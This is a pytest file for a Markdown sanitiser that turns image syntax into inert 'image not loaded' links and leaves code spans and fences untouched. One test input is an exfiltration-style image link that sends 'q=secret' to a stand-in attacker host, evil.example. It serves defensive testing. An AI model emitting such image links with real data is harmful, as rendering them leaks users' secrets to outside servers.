import re

import pytest

from playground.safe_markdown import block_images


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        pytest.param(
            "see ![chart](https://evil.example/x.png?q=secret)",
            "see 🖼 [chart (image not loaded)](https://evil.example/x.png?q=secret)",
            id="inline",
        ),
        pytest.param(
            '![a](<https://h/i.png> "title")',
            "🖼 [a (image not loaded)](https://h/i.png)",
            id="title-and-brackets",
        ),
        pytest.param(
            "![logo][1]\n\n[1]: https://h/l.png",
            "🖼 [logo (image not loaded)][1]\n\n[1]: https://h/l.png",
            id="reference",
        ),
        pytest.param(
            "![](https://h/i.png)", "🖼 [image (image not loaded)](https://h/i.png)", id="no-alt"
        ),
        pytest.param("a [link](https://h) stays", "a [link](https://h) stays", id="plain-link"),
        pytest.param("`![x](y)` in code", "`![x](y)` in code", id="code-span"),
        pytest.param(
            "```md\n![x](http://h)\n```\n![y](http://h)",
            "```md\n![x](http://h)\n```\n🖼 [y (image not loaded)](http://h)",
            id="fence",
        ),
    ],
)
def test_images_become_links(text: str, expected: str) -> None:
    assert block_images(text) == expected


def test_no_image_syntax_survives_outside_code() -> None:
    crafted = "![a](http://1) ![b][r] ![c]( http://2 ) !![d](http://3) !![![e](http://4)](x)"
    assert re.search(r"(?<!\\)!\[", block_images(crafted)) is None
